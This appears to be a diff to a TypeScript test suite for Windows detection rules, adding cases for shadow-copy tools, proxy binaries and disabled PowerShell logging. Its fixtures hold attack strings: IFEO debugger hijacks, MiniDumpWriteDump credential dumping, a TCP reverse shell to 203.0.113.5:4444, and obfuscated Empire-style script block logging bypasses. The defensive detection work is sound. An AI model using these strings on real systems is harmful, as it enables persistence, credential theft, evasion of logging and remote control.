@@ -499,7 +499,7 @@ describe('built-in Windows rules', () => {
     const WEAK = 'Registry Value That Weakens Or Hides Windows Defences Written From The Command Line';
     const ps = (t: number, command: string): ReturnType<typeof makeEvent> => sysmon1(t, `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, `"powershell.exe" & {${command}}`);
     const reg = (t: number, args: string): ReturnType<typeof makeEvent> => proc(t, `${S32}reg.exe`, `reg add ${args}`);
-    expect(hits([reg(1, '"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\calc.exe" /v Debugger /d cmd.exe /f')]).get(ASEP)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
+    expect(hits([reg(1, '"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\calc.exe" /v Debugger /d cmd.exe /f')]).get(ASEP)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation', 'stealth'] });
     expect(titlesOf(ps(2, 'Set-ItemProperty "HKCU:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\" "Userinit" "Userinit.exe, C:\\x\\a.exe" -Force'))).toContain(ASEP);
     expect(titlesOf(ps(3, `Set-ItemProperty -Path 'HKLM:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' -Name 'Shell' -Value 'explorer.exe, a.exe'`))).toContain(ASEP);
     expect(titlesOf(ps(4, 'New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce -Name x -Value a.exe'))).toContain(ASEP);
@@ -1014,15 +1014,24 @@ describe('built-in Windows rules', () => {
   it('dual-use Windows tools started where no command line is logged (4688 with command-line auditing off); with a command line they are left to the argument rules', () => {
     const S32 = 'C:\\Windows\\System32\\';
     const bare = (t: number, image: string): ReturnType<typeof makeEvent> => sec(t, 4688, { SubjectUserName: 'bob', NewProcessName: image, ParentProcessName: `${S32}cmd.exe`, TokenElevationType: '%%1936' });
-    const REC = 'Backup Or Boot Recovery Tool Started Without A Logged Command Line';
-    expect(hits([bare(1, `${S32}vssadmin.exe`)]).get(REC)).toEqual({ level: 'informational', tactics: ['impact'] });
+    const REC = 'Shadow Copy Or Backup Tool Started Without A Logged Command Line';
+    expect(hits([bare(1, `${S32}vssadmin.exe`)]).get(REC)).toEqual({ level: 'informational', tactics: ['credential-access', 'impact'] });
     expect(titlesOf(proc(2, `${S32}vssadmin.exe`, ''))).toContain(REC);
     expect(titlesOf(proc(3, `${S32}vssadmin.exe`, 'vssadmin list shadows'))).not.toContain(REC);
     expect(hits([bare(4, `${S32}net.exe`)]).get('Account Or Host Discovery Tool Started Without A Logged Command Line')?.tactics).toEqual(['discovery']);
-    expect(hits([bare(5, `${S32}wevtutil.exe`)]).get('Event Log, File System Journal Or Firewall Tool Started Without A Logged Command Line')?.tactics).toEqual(['stealth', 'defense-impairment']);
-    expect(hits([bare(6, `${S32}mshta.exe`)]).get('Signed Proxy Binary Started Without A Logged Command Line')?.tactics).toEqual(['persistence', 'stealth']);
+    // Each tool carries the tactics ATT&CK gives the techniques it is used for, and no other.
+    const tacticsOf = (image: string, title: string): readonly string[] | undefined => hits([bare(5, `${S32}${image}`)]).get(title)?.tactics;
+    expect(tacticsOf('wevtutil.exe', 'Event Log Or File System Journal Tool Started Without A Logged Command Line')).toEqual(['stealth', 'defense-impairment']);
+    expect(tacticsOf('netsh.exe', 'Network Shell Started Without A Logged Command Line')).toEqual(['persistence', 'privilege-escalation', 'defense-impairment', 'command-and-control']);
+    expect(tacticsOf('bcdedit.exe', 'Boot Configuration Tool Started Without A Logged Command Line')).toEqual(['defense-impairment', 'impact']);
+    expect(tacticsOf('mshta.exe', 'HTML Application Or XSL Script Host Started Without A Logged Command Line')).toEqual(['execution', 'stealth']);
+    expect(tacticsOf('mshta.exe', 'Signed Proxy Binary Started Without A Logged Command Line')).toBeUndefined();
+    expect(tacticsOf('MSBuild.exe', 'Signed Proxy Binary Started Without A Logged Command Line')).toEqual(['stealth']);
+    expect(tacticsOf('certutil.exe', 'Certificate Utility Started Without A Logged Command Line')).toEqual(['stealth', 'command-and-control']);
+    expect(tacticsOf('bitsadmin.exe', 'BITS Administration Tool Started Without A Logged Command Line')).toEqual(['persistence', 'stealth', 'command-and-control']);
     expect(hits([bare(7, `${S32}schtasks.exe`)]).get('Task, Service Or WMI Command Line Tool Started Without A Logged Command Line')?.tactics).toEqual(['execution', 'persistence', 'privilege-escalation']);
     expect(hits([bare(8, `${S32}tscon.exe`)]).get('Remote Desktop Session Tool Started Without A Logged Command Line')?.tactics).toEqual(['lateral-movement']);
+    expect(titlesOf(proc(6, `${S32}mshta.exe`, 'mshta.exe C:\\Users\\bob\\a.hta'))).not.toContain('HTML Application Or XSL Script Host Started Without A Logged Command Line');
     expect(titlesOf(bare(9, `${S32}notepad.exe`))).toEqual([]);
   });
 
@@ -1445,6 +1454,7 @@ describe('built-in Windows rules', () => {
       ['Process Memory Dump API Called From PowerShell', 'high', 'credential-access', "$m = $WER.GetNestedType('NativeMethods', 'NonPublic').GetMethod('MiniDumpWriteDump', $f)"],
       ['File Times Set From PowerShell', 'low', 'stealth', "(Get-Item C:\\Users\\bob\\evil.exe).CreationTime = '01/01/2015 00:00:00'"],
       ['Screen Captured From PowerShell', 'low', 'collection', '$g.CopyFromScreen($b.Location, [System.Drawing.Point]::Empty, $b.Size)'],
+      ['PowerShell Logging Switched Off Through The Cached Group Policy Settings', 'high', 'defense-impairment', "$c = [Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static').GetValue($null); $c['ScriptBlockLogging']['EnableScriptBlockLogging'] = 0"],
     ];
     const nearMisses = [
       'Get-Service -Name Sysmon64, WinDefend | Select-Object Status',
@@ -1455,6 +1465,8 @@ describe('built-in Windows rules', () => {
       'Get-ChildItem C:\\Users\\bob -Force | Where-Object { $_.Attributes -match "Hidden" }',
       'Get-LocalGroupMember -Group Administrators',
       'Copy-Item C:\\Users\\bob\\a.txt C:\\Users\\bob\\Documents\\a.txt',
+      'Get-ItemProperty -Path HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging',
+      'Invoke-Command -ScriptBlock { $signatures = New-Object Collections.Generic.HashSet[string]; $signatures.Add($h) }',
     ];
     for (const [name, level, tactic, text] of families) {
       expectHit(`${name} (script block 4104)`, block(1, text), level, tactic);
@@ -1472,6 +1484,8 @@ describe('built-in Windows rules', () => {
     expectHit('TCP Reverse Shell In PowerShell (module logging 4103)', module(7, "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',4444); $s = $c.GetStream(); while(($i = $s.Read($b, 0, $b.Length)) -ne 0){ iex $d }"), 'high', 'command-and-control');
     expectHit('PowerShell Remoting Session Opened To Another Host (classic pipeline 800)', classic(8, 'Enter-PSSession -ComputerName ws02'), 'low', 'lateral-movement');
     expect(titlesOf(classic(9, 'Enter-PSSession -Id 3'))).not.toContain('PowerShell Remoting Session Opened To Another Host (classic pipeline 800)');
+    // Empire's other branch: the ScriptBlock signatures list emptied, so suspicious blocks are no longer logged as warnings.
+    expectHit('PowerShell Logging Switched Off Through The Cached Group Policy Settings (script block 4104)', block(10, "[ScriptBlock].\"GetFie`ld\"('signatures','N'+'onPublic,Static').SetValue($null,(New-Object Collections.Generic.HashSet[string]))"), 'high', 'defense-impairment');
   });
 
   it('remote targets of at and reg, shells under a Windows-folder service binary, logging service keys deleted, DNS from temporary folders, ping sweeps; near misses are not', () => {
